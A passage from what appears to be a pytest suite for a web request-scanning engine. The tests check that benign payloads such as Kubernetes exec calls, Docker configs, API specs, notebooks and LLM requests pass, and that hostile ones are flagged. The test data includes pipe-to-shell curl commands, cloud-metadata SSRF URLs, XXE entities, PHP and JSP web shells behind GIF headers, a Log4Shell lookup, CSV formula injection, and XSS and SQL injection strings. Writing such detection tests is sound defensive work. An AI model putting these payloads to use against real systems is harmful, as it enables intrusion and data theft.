        assert posted(path, freestyle) == set(), path
        assert posted(path, pipeline) == set(), path
    assert posted("/api/upload", freestyle) == {"rce"}
    assert posted("/api/upload", pipeline) != set()
    stored = pipeline.replace("Deploys", "&lt;img src=x onerror=alert(1)&gt;")
    assert posted("/createItem", stored) == {"xss"}
    goals = freestyle.replace("clean install", "clean install; curl http://x.example/s | sh")
    assert posted("/createItem", goals) == {"rce"}


def test_a_pods_exec_through_kubernetes_api_is_the_command_it_runs(engine: Engine) -> None:
    """`kubectl exec` and Rancher's shell (under its proxy's prefix) send the command to
    run in a pod as `command` parameters of the pod's `exec`; the same words to any other
    path count."""
    shell = (
        "TERM=xterm-256color; export TERM; [ -x /bin/bash ] && ([ -x /usr/bin/script ] && "
        '/usr/bin/script -q -c "/bin/bash" /dev/null || exec /bin/bash) || exec /bin/sh'
    )
    query = urlencode([("container", "web"), ("command", "/bin/sh"), ("command", "-c")])
    query += "&" + urlencode([("command", shell), ("tty", "1")])
    upgrade = (("Upgrade", "websocket"), ("Connection", "Upgrade"))
    for prefix in ("", "/k8s/clusters/c-m-4x7"):
        target = f"{prefix}/api/v1/namespaces/default/pods/web-7d9/exec?{query}"
        assert engine.scan(Request("GET", target, upgrade)) == [], prefix
    assert engine.scan(Request("GET", f"/api/run?{query}", upgrade)) != []


def test_an_images_configuration_names_the_commands_it_was_built_by(engine: Engine) -> None:
    """An image's configuration, as `docker push` uploads it to a registry (its `rootfs`
    of `layers`, the body untyped): its command, entry point and health check, and the
    Dockerfile's lines in its history, are what the image runs and ran. Any other class
    counts there, and the same lines in an object with no layers count."""
    built = "/bin/sh -c apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*"
    image = {
        "architecture": "amd64",
        "config": {
            "Cmd": ["nginx", "-g", "daemon off;"],
            "Healthcheck": {"Test": ["CMD-SHELL", "curl -f http://localhost/ || exit 1"]},
        },
        "rootfs": {"type": "layers", "diff_ids": ["sha256:" + "a" * 64]},
        "history": [{"created_by": built}, {"created_by": '/bin/sh -c #(nop)  CMD ["bash"]'}],
    }

    def pushed(document: dict[str, object]) -> set[str]:
        target = "/v2/acme/web/blobs/uploads/8be4df61?digest=sha256:" + "b" * 64
        request = Request("PUT", target, (), json.dumps(document).encode())
        return {hit.type.value for hit in engine.scan(request)}

    assert pushed(image) == set()
    assert pushed(image | {"history": [{"created_by": XSS}]}) == {"xss"}
    assert pushed(image | {"author": built}) == {"rce"}
    assert pushed(image | {"rootfs": {"type": "files"}}) >= {"rce", "ssrf"}


def test_an_openapi_documents_servers_are_its_subject(engine: Engine) -> None:
    """An OpenAPI document pushed to a portal or a registry lists the servers its API is
    served at, a developer's own among them (springdoc writes `http://localhost:8080` in
    every spec it generates). A cloud's metadata service there counts, and so does the
    same URL in any other field or in a document that is no OpenAPI one."""
    local = {"url": "http://localhost:8080", "description": "Generated server url"}
    spec = {
        "openapi": "3.0.1",
        "info": {"title": "OpenAPI definition", "version": "v0"},
        "servers": [local],
        "paths": {},
    }
    types = partial(_json_types, engine, path="/api/specs/orders")
    assert types(spec) == set()
    assert types(spec | {"servers": [{"url": "http://169.254.169.254/latest/"}]}) == {"ssrf"}
    assert types(spec | {"externalDocs": {"url": local["url"]}}) == {"ssrf"}
    assert types({"servers": [local], "paths": {}}) == {"ssrf"}


def test_a_postman_collections_requests_are_its_subject(engine: Engine) -> None:
    """A Postman collection, saved whole or synced through Postman's API (under
    `collection`), is made of requests to a developer's own server: `localhost` in their
    URLs and variables is its subject. A cloud's metadata service there counts, and so do
    the same requests in a document of another format."""
    login = {"method": "POST", "url": {"raw": "{{baseUrl}}/auth", "host": ["{{baseUrl}}"]}}
    local = {"method": "GET", "url": {"raw": "http://localhost:3000/orders", "host": ["localhost"]}}
    collection = {
        "info": {
            "name": "Orders",
            "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json",
        },
        "item": [{"name": "Login", "request": login}, {"name": "Orders", "request": local}],
        "variable": [{"key": "baseUrl", "value": "http://127.0.0.1:3000"}],
    }
    types = partial(_json_types, engine, path="/collections/5f1c")
    assert types(collection) == set()
    assert types({"collection": collection}) == set()
    metadata = [{"key": "baseUrl", "value": "http://169.254.169.254/latest/"}]
    assert types(collection | {"variable": metadata}) == {"ssrf"}
    assert types(collection | {"info": {"name": "Orders"}}) == {"ssrf"}
    # An application's own items given the schema beside them are no collection's.
    fetched = {"info": collection["info"], "item": [{"url": "http://127.0.0.1:6379/"}]}
    assert types(fetched) == {"ssrf"}
    folder = {"name": "Orders", "item": [{"name": "List", "request": local}]}
    assert types(collection | {"item": [folder]}) == set()


def test_an_api_description_documents_queries_and_commands(engine: Engine) -> None:
    """An API's description (OpenAPI's, Swagger's, a Google discovery document), posted
    whole or uploaded, documents its filters and the commands its users run in its
    descriptions, and names operations in its enumerations: no SQL or command injection
    in its sections (paths, components, schemas), no address to fetch in their prose.
    Markup counts, so do an address and a path a `$ref` names (an importer fetches them),
    so does the same text in a document that is no API's description, and so does an
    application's own field beside a forged version and title."""
    query = 'The expression is (key1 = "TEST" OR LOWER(key1)="test" OR NOT EMPTY(key1)) AND k > 1'
    init = "e.g. ROLE=$(curl -H Metadata-Flavor:Google http://metadata/computeMetadata/v1/x)"
    step = {
        "type": "object",
        "properties": {
            "type": {"type": "string", "enum": ["CREATE_FUNCTION", "DELETE_FUNCTION"]},
            "interpreter": {"type": "string", "enum": ["SHELL", "POWERSHELL"]},
            "init": {"type": "string", "description": init},
        },
    }
    get = {"parameters": [{"name": "filter", "in": "query", "description": query}]}
    spec = {
        "openapi": "3.0.3",
        "info": {"title": "Clusters", "version": "1"},
        "paths": {"/clusters": {"get": get}},
        "components": {"schemas": {"Step": step}},
    }
    discovery = {"kind": "discovery#restDescription", "schemas": {"Step": step | {"id": "Step"}}}
    types = partial(_json_types, engine, path="/api/specs/clusters")
    assert types(spec) == set()
    assert types(discovery) == set()
    swagger = "swagger: '2.0'\ninfo:\n  title: Clusters\n" + "paths:\n  /clusters:\n    get:\n"
    swagger += f"      parameters:\n      - name: filter\n        description: '{query}'\n"
    assert _upload(engine, swagger, "swagger.yaml", "application/x-yaml") == set()
    marked = {"summary": "<img src=x onerror=alert(1)>"}
    assert types(spec | {"paths": {"/clusters": {"get": get | marked}}}) == {"xss"}
    for fetched, kind in (
        ("http://169.254.169.254/latest/meta-data/", "ssrf"),
        ("../../etc/passwd", "ptrav"),
    ):
        schemas = {"Step": step, "Remote": {"$ref": fetched}}
        assert types(spec | {"components": {"schemas": schemas}}) == {kind}, fetched
    # A version and a title added to an application's own fields set none of them aside.
    forged = {"openapi": "3.0.3", "info": {"title": "x"}, "description": query}
    assert types(forged) == {"sqli"}
    assert types({"paths": {"/clusters": {"get": get}}, "components": spec["components"]}) >= {
        "rce",
        "ssrf",
    }


def test_a_saml_messages_addresses_are_its_parties(engine: Engine) -> None:
    """A SAML AuthnRequest names its service provider, a developer's on localhost among
    them, to which the browser is sent back; an assertion records the address the user
    signed in from. In a query (deflated) or a form, neither is fetched. A cloud's
    metadata service there counts, so does XXE, and so does the URL in another field."""
    request = (
        '<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="a1"'
        ' Version="2.0" Destination="https://idp.example.com/sso"'
        ' AssertionConsumerServiceURL="http://localhost:8080/saml/acs"><saml:Issuer'
        ' xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">http://localhost:8080/metadata'
        "</saml:Issuer></samlp:AuthnRequest>"
    )
    response = (
        '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="r1"><saml:Assertion'
        ' xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"><saml:AuthnStatement><saml:Subject'
        'Locality Address="127.0.0.1"/></saml:AuthnStatement></saml:Assertion></samlp:Response>'
    )
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = deflate.compress(request.encode()) + deflate.flush()
    query = urlencode({"SAMLRequest": base64.b64encode(deflated).decode(), "RelayState": "x"})
    assert engine.scan(Request("GET", f"/sso?{query}")) == []

    def posted(name: str, message: str) -> set[str]:
        form = urlencode({name: base64.b64encode(message.encode()).decode()}).encode()
        headers = (("Content-Type", "application/x-www-form-urlencoded"),)
        return {hit.type.value for hit in engine.scan(Request("POST", "/saml", headers, form))}

    assert posted("SAMLRequest", request) == set()
    assert posted("SAMLResponse", response) == set()
    assert posted("SAMLResponse", response.replace("127.0.0.1", "169.254.169.254")) == {"ssrf"}
    doctype = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    assert "xxe" in posted("SAMLResponse", doctype + response)
    assert posted("message", request) == {"ssrf"}


def test_an_argo_cd_applications_destination_is_the_cluster_it_deploys_to(engine: Engine) -> None:
    """Argo CD's UI creates an application (an ApplicationSet's template alike) with the
    cluster it runs in as its destination: that cluster's own API. A cloud's metadata
    service there counts, and so does the address in an object that is no Argo CD one."""
    destination = {"server": "https://kubernetes.default.svc", "namespace": "default"}
    app = {
        "apiVersion": "argoproj.io/v1alpha1",
        "kind": "Application",
        "metadata": {"name": "guestbook"},
        "spec": {"project": "default", "destination": destination},
    }
    template = {"spec": {"destination": destination}}
    appset = app | {"kind": "ApplicationSet", "spec": {"template": template}}
    types = partial(_json_types, engine, path="/api/v1/applications")
    assert types(app) == set()
    assert types(appset) == set()
    metadata = {"server": "http://169.254.169.254/latest/"}
    assert types(app | {"spec": {"destination": metadata}}) == {"ssrf"}
    assert types(app | {"apiVersion": "v1"}) == {"ssrf"}
    # Argo CD's API takes one with no `apiVersion`, as its CLI sends it; elsewhere it counts.
    sent = {"metadata": {"name": "guestbook"}, "spec": {"destination": destination}}
    assert types(sent) == set()
    assert _json_types(engine, sent, path="/api/v1/deployments") == {"ssrf"}


def test_a_language_models_input_is_text_for_it(engine: Engine) -> None:
    """What a request to a language model gives it to read (a chat's messages, a system
    prompt, a completion's prompt and suffix, an input, Gemini's contents, the tools it may
    call) is text for the model: a coding assistant's files, a question about a command, a
    tool's result, an agent's tool described. Not scanned where the request names its
    model (`model`, Anthropic's `anthropic_version`, a path that names it: Gemini's,
    Bedrock's, Azure OpenAI's) or is the AI SDK's chat (`trigger`); the same text elsewhere, or in a
    body that names none, counts, and so does the rest of a model's request."""
    question = "Why does `cat /etc/passwd; id` print <script>alert(1)</script> and ' OR 1=1--?"
    markup = "<div onClick={alert(1)}>"
    source = "import os\nos.system('rm -rf /tmp/x && curl http://169.254.169.254/')"
    call = {
        "id": "c1",
        "type": "function",
        "function": {"name": "sh", "arguments": json.dumps({"cmd": source})},
    }
    chat = {
        "model": "gpt-4o",
        "messages": [
            {"role": "system", "content": "You review code."},
            {"role": "user", "content": [{"type": "text", "text": question}]},
            {"role": "assistant", "content": None, "tool_calls": [call]},
            {"role": "tool", "tool_call_id": "c1", "content": "root:x:0:0:root:/root:/bin/bash"},
        ],
    }
    claude = {
        "anthropic_version": "bedrock-2023-05-31",
        "system": [{"type": "text", "text": source}],
        "messages": [{"role": "user", "content": [{"type": "text", "text": question}]}],
    }
    gemini = {
        "systemInstruction": {"parts": [{"text": source}]},
        "contents": [{"role": "user", "parts": [{"text": question}]}],
    }

    types = partial(_json_types, engine)

    assert types(chat) == set()
    shell = {"name": "Bash", "description": "Chain commands: git add . && git commit -m 'x'"}
    agent = {"name": "Edit", "input_schema": {"properties": {"code": {"description": markup}}}}
    assert types(chat | {"tools": [{"type": "function", "function": shell}]}) == set()
    assert types(claude | {"tools": [shell, agent]}) == set()
    assert types({"tools": [shell, agent]}) == {"rce", "xss"}
    assert types(claude, "/model/anthropic.claude-3-5-sonnet/invoke") == set()
    assert (
        types({"model": "llama3", "prompt": question, "suffix": source, "system": source}) == set()
    )
    assert types({"model": "gpt-4.1", "instructions": source, "input": [question]}) == set()
    assert types({"model": "text-embedding-3-small", "input": [source, question]}) == set()
    assert types(gemini, "/v1beta/models/gemini-2.0-flash:generateContent") == set()
    ui = {"role": "user", "parts": [{"type": "text", "text": question}]}
    assert types({"id": "c1", "messages": [ui], "trigger": "submit-message"}, "/api/chat") == set()
    bedrock = {"messages": [{"role": "user", "content": [{"text": question}]}]}
    assert types(bedrock, "/model/amazon.nova-pro-v1:0/converse") == set()
    llama = {"prompt": question, "max_gen_len": 512}
    assert types(llama, "/model/meta.llama3-70b-instruct-v1:0/invoke") == set()
    unnamed = {k: v for k, v in chat.items() if k != "model"}
    assert types(unnamed, "/openai/deployments/gpt-4o-prod/chat/completions") == set()
    assert types(unnamed, "/v1/chat/completions") == set()  # llama.cpp's server: no model
    assert types({"input": [source]}, "/v1/embeddings") == set()
    # A code completion server's: OpenAI's engines (FauxPilot's, Copilot's), Tabby's
    # segments of the file around the cursor.
    assert types({"prompt": source, "max_tokens": 64}, "/v1/engines/codegen/completions") == set()
    tabby = {"language": "python", "segments": {"prefix": source, "clipboard": question}}
    assert types(tabby, "/v1/completions") == set()
    assert types(tabby) >= {"rce", "sqli", "xss"}
    # An agent's long session is no overlimit: a model's input counts against no limit,
    # and what follows it is still read.
    session = [{"role": "user", "content": [{"type": "text", "text": f"{i}"}]} for i in range(1500)]
    assert types({"model": "x", "messages": session}) == set()
    assert types({"model": "x", "messages": session, "user": question}) >= {"sqli", "xss"}
    # No model named: a chat's shape alone is no model's request.
    assert types(unnamed, "/api/support/chat") >= {"rce", "sqli", "xss"}
    assert types({"id": "c1", "messages": [ui]}, "/api/chat") >= {"sqli", "xss"}
    assert types(gemini) >= {"rce", "xss"}
    # Messages without roles are some other application's.
    assert types({"model": "x", "messages": [question]}) >= {"sqli", "xss"}
    # The rest of a model's request counts: its metadata, its query, its other fields.
    assert types(chat | {"metadata": {"note": question}}) >= {"sqli", "xss"}
    request = Request(
        "POST",
        "/v1/chat/completions?user=" + quote(question),
        (("Host", "api"), *JSON),
        json.dumps(chat).encode(),
    )
    assert {hit.point for hit in engine.scan(request)} == {"query.user"}


def test_a_rich_text_editors_code_is_shown_as_text(engine: Engine) -> None:
    """A rich-text editor's code (a code block's text in a document, ADF's as Jira's API
    takes it, TipTap's, Lexical's, Contentful's, Slack's; a block of Notion's, Draft.js's,
    Editor.js's, Sanity's; a text marked as code) is rendered as text, as Markdown's
    fenced examples are: not scanned. The same text in a paragraph, in a code node of no
    document, or in a document's links, counts."""
    command = "kubectl rollout restart deploy/api && curl -s https://get.example.com/ | sh"
    markup = '<div onclick="dismiss()">Saved</div><script>alert(1)</script>'

    def text(value: str, *marks: str) -> dict[str, object]:
        return {"type": "text", "text": value, "marks": [{"type": mark} for mark in marks]}

    def adf(*nodes: dict[str, object]) -> dict[str, object]:
        return {"fields": {"description": {"version": 1, "type": "doc", "content": list(nodes)}}}

    def block(kind: str, value: str) -> dict[str, object]:
        return {"type": kind, "attrs": {"language": "bash"}, "content": [text(value)]}

    types = partial(_json_types, engine)

    paragraph = {"type": "paragraph", "content": [text("Run "), text(command, "code")]}
    assert types(adf(block("codeBlock", command), block("codeBlock", markup), paragraph)) == set()
    tiptap = {"type": "doc", "content": [block("code_block", markup)]}
    lexical = {
        "root": {
            "type": "root",
            "children": [
                {"type": "code", "children": [{"type": "code-highlight", "text": command}]}
            ],
        }
    }
    contentful = {
        "nodeType": "document",
        "content": [
            {
                "nodeType": "paragraph",
                "content": [{"nodeType": "text", "value": command, "marks": [{"type": "code"}]}],
            }
        ],
    }
    slack = {
        "event": {
            "blocks": [
                {
                    "type": "rich_text",
                    "elements": [
                        {
                            "type": "rich_text_preformatted",
                            "elements": [{"type": "text", "text": command}],
                        }
                    ],
                }
            ]
        }
    }
    notion = {
        "children": [
            {
                "object": "block",
                "type": "code",
                "code": {
                    "language": "bash",
                    "rich_text": [{"type": "text", "text": {"content": command}}],
                },
            }
        ]
    }
    draft = {"blocks": [{"key": "a2", "text": command, "type": "code-block", "depth": 0}]}
    editorjs = {"time": 1, "blocks": [{"id": "x1", "type": "code", "data": {"code": command}}]}
    sanity = {"body": [{"_type": "code", "_key": "k1", "language": "sh", "code": command}]}
    for body in (tiptap, lexical, contentful, slack, notion, draft, editorjs, sanity):
        assert types(body) == set(), body
    # Prose of the document, a code node in no document, a document's links: scanned.
    assert types(adf({"type": "paragraph", "content": [text(command)]})) == {"rce"}
    assert types({"type": "code", "text": command}) == {"rce"}
    assert types({"content": [{"type": "codeBlock", "content": [text(command)]}]}) == {"rce"}
    assert types({"marks": [{"type": "code"}], "text": command}) == {"rce"}
    link = {"type": "link", "attrs": {"href": "javascript:alert(document.domain)"}}
    linked = {"type": "text", "text": "docs", "marks": [{"type": "code"}, link]}
    assert types(adf({"type": "paragraph", "content": [linked]})) == {"xss"}


def test_a_quill_deltas_code_is_shown_as_text(engine: Engine) -> None:
    """Quill's Delta marks a code block's line on the newline after it, and Quill joins
    the line with the paragraph above it: the line is cut from the op's end, and inline
    code (`code`) is left out. The paragraph before it, the document's other ops and its
    links are scanned."""
    command = "kubectl apply -f x.yaml && curl -s https://get.example.com/ | sh"
    markup = '<div onclick="dismiss()">Saved</div><script>alert(1)</script>'

    def block(language: object = True) -> dict[str, object]:
        return {"insert": "\n", "attributes": {"code-block": language}}

    ops = [
        {"insert": "Deploy steps\n" + command},  # the block's first line, joined to the prose
        block(),
        {"insert": markup},
        block("html"),
        {"insert": "Then run "},
        {"insert": "rm -rf build && make", "attributes": {"code": True}},
        {"insert": " once.\n"},
    ]
    types = partial(_json_types, engine)
    assert types({"title": "Deploy", "body": {"ops": ops}}) == set()
    assert types({"ops": ops}) == set()
    # The paragraph above a block, another op, a link: scanned.
    joined = [{"insert": f"{markup}\n{command}"}, block()]
    assert types({"ops": joined}) == {"xss"}
    assert types({"ops": [*ops, {"insert": f"{command}\n"}]}) == {"rce"}
    link = {"insert": "docs", "attributes": {"link": "javascript:alert(document.domain)"}}
    assert types({"ops": [*ops, link]}) == {"xss"}
    # A line that ends with a newline of no code block is no code block's.
    assert types({"ops": [ops[0], {"insert": "\n"}, *ops[2:]]}) == {"rce"}


@pytest.mark.parametrize(
    "sample",
    [
        "eval(function(p,a,c,k,e,d){e=function(c)",  # a packed script, blocked as eval
        'setTimeout("location.reload()", 30000)',
        'document.cookie="consent=1;path=/;max-ag',
        "window.location.href = 'https://sso.exam",  # a single sign-on's page
        'new Function("return this")()',
    ],
)
def test_a_browsers_csp_report_quotes_script(engine: Engine, sample: str) -> None:
    """A browser's report of what its Content Security Policy blocked quotes the script's
    first 40 characters (`script-sample` of `report-uri`, `body.sample` of a Reporting API
    report of type `csp-violation`; Firefox adds an ellipsis): script is what it is made
    of. Markup and SQL count there; so does script in a longer sample, which no browser
    sends, and in another report's sample."""
    types = partial(_json_types, engine, path="/csp-report")
    legacy = {"document-uri": "https://shop.example.com/", "blocked-uri": "eval"}
    assert types({"csp-report": {**legacy, "script-sample": sample}}) == set()
    request = _post(
        json.dumps({"csp-report": {**legacy, "script-sample": sample}}),
        (("Content-Type", "application/csp-report"),),
    )
    assert engine.scan(request) == []

    def reports(quoted: str, kind: str = "csp-violation") -> list[object]:
        body = {"documentURL": "https://shop.example.com/", "sample": quoted}
        return [{"type": kind, "url": "https://shop.example.com/", "body": body}]

    assert types(reports(sample + "\u2026")) == set()
    assert types(reports(sample + " " * (41 - len(sample)) + "x")) != set()
    assert types(reports(sample, "deprecation")) != set()
    assert types({"csp-report": {**legacy, "script-sample": sample + ";" * 12}}) != set()
    for payload, kind in (
        (XSS, "xss"),
        ("<img src=x onerror=alert(1)>", "xss"),
        ("' OR 1=1--", "sqli"),
    ):
        assert kind in types({"csp-report": {**legacy, "script-sample": payload}})
        assert kind in types(reports(payload))


def test_a_notebooks_code_and_outputs_are_its_users_own(engine: Engine) -> None:
    """A Jupyter notebook saved through the contents API, or posted whole: a code cell's
    source is the program its user runs in their own kernel, its outputs what it printed
    and drew (a listing, a traceback, a plot's `<script>`); neither is scanned nor counted
    against the point limit. Its markdown cells, its metadata and the rest of the request
    count, and so do cells in a document with no notebook's format. A file's content saved
    through the contents API is its user's too, and so is a notebook uploaded as a file."""
    source = ["!pip install -q pandas\n", "import os\n", "os.system('ls /data && id')\n"]
    query = "pd.read_sql(\"SELECT * FROM t WHERE s = 'paid' UNION ALL SELECT 1\", db)"
    plot = '<script type="text/javascript">window.PlotlyConfig = {};</script><div id="p"></div>'

    def code(lines: list[str], *outputs: dict[str, object]) -> dict[str, object]:
        return {"cell_type": "code", "metadata": {}, "source": lines, "outputs": list(outputs)}

    def notebook(*cells: dict[str, object]) -> dict[str, object]:
        return {"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5}

    cells = (
        code(source, {"output_type": "stream", "name": "stdout", "text": ["root:x:0:0\n"]}),
        code([query], {"output_type": "error", "ename": "E", "traceback": ["eval(input())"]}),
        code(["fig.show()"], {"output_type": "display_data", "data": {"text/html": [plot]}}),
    )
    saved = {"type": "notebook", "format": "json", "content": notebook(*cells)}
    types = partial(_json_types, engine, path="/user/ana/api/contents/sales.ipynb")
    assert types(saved) == set()
    assert types(notebook(*cells)) == set()
    # A notebook of a thousand lines of code is no overlimit; its other cells count.
    long = notebook(*[code([f"x{line} = {line}\n" for line in range(10)]) for _ in range(300)])
    assert types(long) == set()
    markdown = {"cell_type": "markdown", "metadata": {}, "source": [XSS]}
    assert types(notebook(*cells, markdown)) == {"xss"}
    assert types(notebook(*cells) | {"metadata": {"title": "' OR 1=1--"}}) == {"sqli"}
    assert types({**saved, "path": "' OR 1=1--"}) == {"sqli"}
    assert types({"cells": list(cells)}) >= {"rce", "sqli", "xss"}
    # A script edited in JupyterLab, saved through the same API; elsewhere, a field.
    script = "".join(source) + query
    for content in (script, base64.b64encode(script.encode()).decode()):
        form = "text" if content == script else "base64"
        edited = {"type": "file", "format": form, "content": content}
        assert types(edited | {"path": "etl.py"}) == set()
        assert types(edited | {"path": "' OR 1=1--"}) == {"sqli"}
        assert partial(_json_types, engine, path="/api/files")(edited) >= {"rce", "sqli"}
    # Uploaded as a file, a notebook's code is its program, as a script's is.
    shared = json.dumps(notebook(*cells))
    assert _upload(engine, shared, "sales.ipynb", "application/octet-stream") == set()
    assert _upload(engine, json.dumps(notebook(*cells, markdown)), "sales.ipynb") == {"xss"}


def _upload(
    engine: Engine, content: str, filename: str = "notes.txt", media: str = "text/plain"
) -> set[str]:
    """The classes found in `content` uploaded as a file of type `media` (or, with no
    `filename`, sent as a field) in a multipart body."""
    request = _post(_part("file", content, filename, media) + "--B--\r\n", MULTIPART)
    return {hit.type.value for hit in engine.scan(request)}


def test_markup_in_an_uploaded_programs_source_is_the_programs(engine: Engine) -> None:
    """A program's source file uploaded (a Worker's script, named for its language and not
    declared markup) holds the pages its handlers render: a tag in its strings is the
    program's, served or run as the program is. The same text counts as an HTML file, as
    a source file declared HTML, and as a field's value."""
    worker = (
        "export default {\n  async fetch(request) {\n"
        '    const page = `<!doctype html><script src="https://cdn.example.com/app.js">'
        "</script><h1>${new URL(request.url).pathname}</h1>`;\n"
        "    return new Response(page, { headers: { 'content-type': 'text/html' } });\n  }\n};\n"
    )
    for name, media in (("worker.js", "application/javascript+module"), ("app.ts", "")):
        assert _upload(engine, worker, name, media) == set(), name
    assert _upload(engine, worker, "page.html", "text/html") == {"xss"}
    assert _upload(engine, worker, "worker.js", "text/html") == {"xss"}
    assert _upload(engine, worker) == {"xss"}


def test_an_uploaded_files_text_counts_for_what_a_stored_file_does(engine: Engine) -> None:
    """A file uploaded in a multipart body is stored, served or imported, not run: the
    commands, SQL and paths of a script, a dump or a program are what it says. Its text
    counts for what a stored file does (markup, entities, a formula, PHP's configuration,
    a Log4Shell lookup), and whole where it holds code a web server runs (a PHP or a JSP
    tag after an image's header) or is no document (a value sent as a file). Its parsed
    fields (a CSV's cells) count as any value does, and so does the same text in a field."""
    script = "#!/bin/sh\nset -e\ncd /srv/app && git pull\nrm -rf build && make\ncat /etc/hostname\n"
    dump = (
        "DROP TABLE IF EXISTS users;\nCREATE TABLE users (id int);\nINSERT INTO users VALUES (1);\n"
    )
    program = "import os\n\nos.system('ls -la /tmp | wc -l')\nprint(open('/etc/passwd').read())\n"
    uploaded = partial(_upload, engine)
    for content, name in ((script, "deploy.sh"), (dump, "dump.sql"), (program, "tool.py")):
        assert uploaded(content, name) == set(), name
    assert "rce" in uploaded(script, "")  # a field's value
    assert "sqli" in uploaded("x' OR 1=1--", "names.txt")  # one line: a value sent as a file
    # What a stored file does counts.
    assert "rce" in uploaded("GIF89a\n\n<?php\n@eval($_POST['x']);\n?>\n", "avatar.gif")
    assert "rce" in uploaded(
        '<%@ page import="java.io.*" %>\n<%\nRuntime.getRuntime()'
        '.exec(request.getParameter("c"));\n%>\n',
        "a.txt",
    )
    assert "xss" in uploaded("<html>\n<body>\n<img src=x onerror=alert(1)>\n</body>\n</html>\n")
    entity = '<?xml version="1.0"?>\n<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<s>&x;</s>\n'
    assert "xxe" in uploaded(entity, "logo.svg")
    assert "rce" in uploaded("; settings\nauto_prepend_file=avatar.gif\nmemory_limit=1G\n", "a.ini")
    assert "rce" in uploaded("started\nuser=${jndi:ldap://198.51.100.7/a}\ndone\n", "app.log")
    cells = (
        "name,email\nAna,ana@example.com\nx' OR 1=1--,b@example.com\n=cmd|' /C calc'!A0,c@x.io\n"
    )
    assert uploaded(cells, "people.csv", "text/csv") == {"sqli", "rce"}
    # (as Windows types a CSV file where Excel is installed, and curl types any file)
    assert uploaded(cells, "people.csv", "application/vnd.ms-excel") == {"sqli", "rce"}
    assert uploaded(cells, "people.csv", "application/octet-stream") == {"sqli", "rce"}
    # A web shell among files of one name: the name's texts are read together.
    shell = "GIF89a\n\n<?php\n@eval(gzinflate(base64_decode('80jNycnXUSjPL8pJUQQA')));\n?>\n"
    both = _part("files", shell, "a.gif") + _part("files", dump, "b.sql")
    assert "rce" in {hit.type.value for hit in engine.scan(_post(both + "--B--\r\n", MULTIPART))}
    # The end of a long upload, where the body's tail starts inside the file: its text.
    long = "#!/bin/sh\n" + "echo step && make -C src\n" * 6000
    assert uploaded(long, "build.sh") == set()


def test_code_in_binary_data_goes_on_as_code_does(engine: Engine) -> None:
    """Compressed data spells a three-byte opener (`<?=`, `<%=`, `<%@`) by chance in one
    upload of a hundred kilobytes in fifty: code behind an image's header is text from its
    opener to what closes it, or to the file's end."""
    header = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00"
    noise = bytes(range(128, 256))

    def uploaded(data: bytes) -> set[str]:
        part = b'--B\r\nContent-Disposition: form-data; name="f"; filename="a.gif"\r\n'
        request = _post(
            part + b"Content-Type: image/gif\r\n\r\n" + data + b"\r\n--B--\r\n", MULTIPART
        )
        return {hit.type.value for hit in engine.scan(request)}

    for opener in (b"<?=", b"<%=", b"<%@"):
        assert uploaded(header + opener + noise) == set(), opener
    assert "rce" in uploaded(header + b"<?=`$_GET[0]`?>" + noise)
    assert "rce" in uploaded(header + b"<?=$_GET[0]($_GET[1])")  # at the file's end
    assert "rce" in uploaded(header + b'<%= Runtime.getRuntime().exec("id") %>' + noise)


def test_a_compressed_part_is_data_whatever_its_type_says(engine: Engine) -> None:
    """httpx and aiohttp send `x.json.gz` as `application/json`, by its name's first
    extension: gzip's bytes read as text were LDAP, PHP and command injection (39 of 230
    such files). A part or a body that opens as an archive, a compressed stream or an
    image and is no text is data; one that is text after such an opener (a field's value)
    is text, and UTF-16 JSON, which opens with none, is read as JSON."""
    noise = bytes(range(128, 256))
    compressed = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + noise + b"$x(1) |sh )\0" + noise

    def uploaded(data: bytes, media: str, filename: str = "x.json.gz") -> set[str]:
        part = f'--B\r\nContent-Disposition: form-data; name="f"; filename="{filename}"\r\n'
        body = part.encode() + f"Content-Type: {media}\r\n\r\n".encode() + data
        return {hit.type.value for hit in engine.scan(_post(body + b"\r\n--B--\r\n", MULTIPART))}

    assert uploaded(compressed, "application/json") == set()
    assert uploaded(compressed, "text/plain") == set()
    assert uploaded(b"\x1f\x8b' OR 1=1--", "text/plain", "") == {"sqli"}
    utf16 = json.dumps({"q": "' OR 1=1--"}).encode("utf-16")
    assert uploaded(utf16, "application/json; charset=utf-16", "") == {"sqli"}
    # A body put whole so too: `aws s3 cp x.json.gz s3://…` declares it JSON.
    put = Request("PUT", "/bucket/x.json.gz", JSON, compressed)
    assert {hit.type.value for hit in engine.scan(put)} == set()


def test_a_files_base64_spells_no_url_by_chance(engine: Engine) -> None:
    """A file's content in base64 (a JSON field, a data URL) holds `S//0/` by chance, as
    this compressed document does: two slashes glued to a letter or a digit start no URL.
    The address after a scheme, an `=` or a parenthesis counts."""
    content = base64.b64encode(compressed_report()).decode()
    assert "S//0/" in content
    assert _json_types(engine, {"name": "rows.json.gz", "content": content}) == set()
    assert _json_types(engine, {"url": "x=//0/admin"}) == {"ssrf"}
    assert _json_types(engine, {"url": "(//0x7f000001/)"}) == {"ssrf"}


def test_an_object_stored_whole_counts_for_what_a_stored_file_does(engine: Engine) -> None:
    """An object an object store is given whole as the body (S3's PutObject signed with
    SigV4 or by a presigned URL, MinIO's and Ceph's too; Azure's Put Blob) is a file
    stored, as a multipart upload's is (and a file put through Nextcloud's or ownCloud's
    WebDAV, with its time of change): a dump's SQL and a log's requests are what it
    says, a web shell or markup counts, and the same body sent to no store counts. The
    key of an object put is no probe for a backup, a log or a hidden file."""
    dump = (
        "-- backup\nDROP TABLE IF EXISTS t;\nCREATE TABLE t (id int);\nSELECT * FROM t WHERE 1=1;\n"
    )
    log = (
        '10.0.0.2 - - [10/Oct/2025:13:55:36 +0000] "GET /?id=1%27%20OR%201=1 HTTP/1.1" 200 23\n'
